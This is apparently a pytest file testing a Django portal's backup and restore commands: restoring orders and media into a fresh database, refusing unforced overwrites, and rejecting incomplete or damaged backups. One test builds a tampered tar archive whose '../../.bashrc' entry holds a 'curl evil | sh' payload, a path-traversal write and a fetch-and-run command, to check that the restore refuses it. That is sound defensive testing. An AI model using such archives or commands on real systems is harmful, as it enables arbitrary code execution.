"""A nightly backup restores into a new database with the same orders and files.

The backup runs in the test process, on the test database; the restore runs
as an operator would run it, ``manage.py restore`` in another process, into a
database created for the occasion (a new file on SQLite, ``restore_<random>``
on the same PostgreSQL server) with its own media folders. pg_dump reads the
test database from another connection, so the orders must be committed.
"""

import hashlib
import io
import json
import os
import sqlite3
import subprocess
import sys
import tarfile
import uuid
from contextlib import closing
from decimal import Decimal
from pathlib import Path
from urllib.parse import quote

import psycopg
import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.storage import storages
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import override_settings

from accounts.network.models import Role
from ordering.orders import services
from ordering.orders.models import Order
from tests.accounts.factories import MembershipFactory, OrganisationFactory
from tests.ordering.factories import placed_order, stocked

pytestmark = pytest.mark.django_db(transaction=True)

DELIVERY = services.Delivery(
    name="Aqua Services Lyon", line1="12 rue Garibaldi", postcode="69003", city="Lyon"
)
PICTURE = b"\xff\xd8\xff\xe0 catalogue picture"
PHOTO = b"\xff\xd8\xff\xe0 installation photo, private"


def _storages(root: Path) -> dict:
    """Both media storages on local disk under ``root``, as in production."""
    return {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(root / "public")},
        },
        "private": {
            "BACKEND": "portal.storage.PrivateFileSystemStorage",
            "OPTIONS": {"location": str(root / "private")},
        },
    }


class FreshDatabase:
    """An empty database of the test database's vendor, and a way to read it."""

    def __init__(self, tmp_path: Path):
        self.vendor = connection.vendor
        if self.vendor == "sqlite":
            self.path = tmp_path / "restored.sqlite3"
            self.url = f"sqlite:///{self.path}"
            return
        params = connection.settings_dict
        self.name = f"restore_{uuid.uuid4().hex[:12]}"
        self.server = {
            "host": params["HOST"] or "localhost",
            "port": params["PORT"] or 5432,
            "user": params["USER"],
            "password": params["PASSWORD"] or None,
        }
        credentials = quote(params["USER"], safe="")
        if params["PASSWORD"]:
            credentials += ":" + quote(params["PASSWORD"], safe="")
        self.url = (
            f"postgres://{credentials}@{self.server['host']}:{self.server['port']}"
            f"/{self.name}"
        )
        with self._server_connection() as admin:
            admin.execute(f'CREATE DATABASE "{self.name}"')

    def _server_connection(self):
        return psycopg.connect(
            **self.server, dbname=connection.settings_dict["NAME"], autocommit=True
        )

    def execute(self, sql: str) -> list[tuple]:
        """Run ``sql`` on the new database, committed; its rows if any."""
        if self.vendor == "sqlite":
            with closing(sqlite3.connect(self.path)) as database, database:
                cursor = database.execute(sql)
                return cursor.fetchall() if cursor.description else []
        with psycopg.connect(**self.server, dbname=self.name) as database:
            cursor = database.execute(sql)
            return cursor.fetchall() if cursor.description else []

    def drop(self) -> None:
        if self.vendor == "sqlite":
            return
        with self._server_connection() as admin:
            admin.execute(f'DROP DATABASE IF EXISTS "{self.name}" WITH (FORCE)')


@pytest.fixture
def fresh_database(tmp_path):
    database = FreshDatabase(tmp_path)
    yield database
    database.drop()


@pytest.fixture
def restore_settings(tmp_path) -> Path:
    """Test settings whose media folders are new and empty: the restore must
    fill them from the archives."""
    media = tmp_path / "restored"
    (tmp_path / "settings_for_restore.py").write_text(
        "from portal.settings.test import *  # noqa: F403\n"
        f"STORAGES = {_storages(media)!r}\n"
    )
    return media


def _manage(*args: str, database_url: str, settings_folder: Path):
    """``manage.py`` in another process, with the given database."""
    env = {
        **os.environ,
        "DATABASE_URL": database_url,
        "DJANGO_SETTINGS_MODULE": "settings_for_restore",
        "PYTHONPATH": os.pathsep.join([str(settings_folder), str(settings.BASE_DIR)]),
    }
    return subprocess.run(  # noqa: S603
        [sys.executable, str(settings.BASE_DIR / "manage.py"), *args],
        cwd=settings.BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )


def _place_orders(count: int) -> None:
    reseller = OrganisationFactory(may_order_on_account=True)
    buyer = MembershipFactory(organisation=reseller, role=Role.BUYER).user
    product = stocked(reference="FLT-200", on_hand=50)
    for index in range(count):
        placed_order(
            buyer, [(product, index + 1)], key=f"backup-{index}", delivery=DELIVERY
        )


def _cents(value) -> Decimal:
    """SQLite hands decimals back as floats; PostgreSQL as Decimal."""
    return Decimal(str(value)).quantize(Decimal("0.01"))


def test_a_backup_restores_into_a_new_database_and_over_one_only_when_forced(
    tmp_path, fresh_database, restore_settings
):
    _place_orders(3)
    expected = sorted(
        (number, _cents(total))
        for number, total in Order.objects.values_list("number", "total_incl_vat")
    )
    assert len(expected) == 3
    folder = tmp_path / "backup-2026-12-05"
    with override_settings(STORAGES=_storages(tmp_path / "original")):
        picture = storages["default"].save("images/aquapure.jpg", ContentFile(PICTURE))
        photo = storages["private"].save("photos/site.jpg", ContentFile(PHOTO))
        call_command("backup", str(folder), stdout=io.StringIO())

    def restore(*options: str):
        return _manage(
            "restore",
            str(folder),
            *options,
            database_url=fresh_database.url,
            settings_folder=tmp_path,
        )

    restored = restore()
    assert restored.returncode == 0, restored.stderr
    assert "orders: 3 (backup: 3)" in restored.stdout
    rows = fresh_database.execute("SELECT number, total_incl_vat FROM ordering_order")
    assert sorted((number, _cents(total)) for number, total in rows) == expected
    assert (restore_settings / "public" / picture).read_bytes() == PICTURE
    assert (restore_settings / "private" / photo).read_bytes() == PHOTO

    # Work goes on in the restored database; a second restore would lose it.
    last_names = "SELECT last_name FROM accounts_user"
    fresh_database.execute("UPDATE accounts_user SET last_name = 'changed'")
    refused = restore()
    assert refused.returncode != 0
    assert "already has" in refused.stderr
    assert "--force" in refused.stderr
    assert fresh_database.execute(last_names) == [("changed",)]

    forced = restore("--force")
    assert forced.returncode == 0, forced.stderr
    buyer_last_name = Order.objects.first().placed_by.last_name
    assert buyer_last_name != "changed"
    assert fresh_database.execute(last_names) == [(buyer_last_name,)]


def test_an_unfinished_backup_is_never_restored(tmp_path):
    folder = tmp_path / "cut-short"
    call_command("backup", str(folder), stdout=io.StringIO())
    (folder / "manifest.json").unlink()

    with pytest.raises(CommandError, match="manifest.json is missing"):
        call_command("restore", str(folder), stdout=io.StringIO())


def test_a_damaged_backup_is_never_restored(tmp_path):
    folder = tmp_path / "damaged"
    call_command("backup", str(folder), stdout=io.StringIO())
    dump = next(folder.glob("database.*"))
    dump.write_bytes(dump.read_bytes()[:-100])

    with pytest.raises(CommandError, match="damaged"):
        call_command("restore", str(folder), stdout=io.StringIO())


def test_an_archive_that_would_write_outside_the_media_folder_is_refused(tmp_path):
    folder = tmp_path / "tampered"
    with override_settings(STORAGES=_storages(tmp_path / "original")):
        call_command("backup", str(folder), stdout=io.StringIO())
    archive = folder / "media-private.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        member = tarfile.TarInfo("../../.bashrc")
        member.size = len(b"curl evil | sh")
        tar.addfile(member, io.BytesIO(b"curl evil | sh"))
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"][archive.name] = hashlib.sha256(archive.read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest))

    # Refused before the database is looked at, let alone replaced.
    with pytest.raises(CommandError, match="refused"):
        call_command("restore", str(folder), "--force", stdout=io.StringIO())
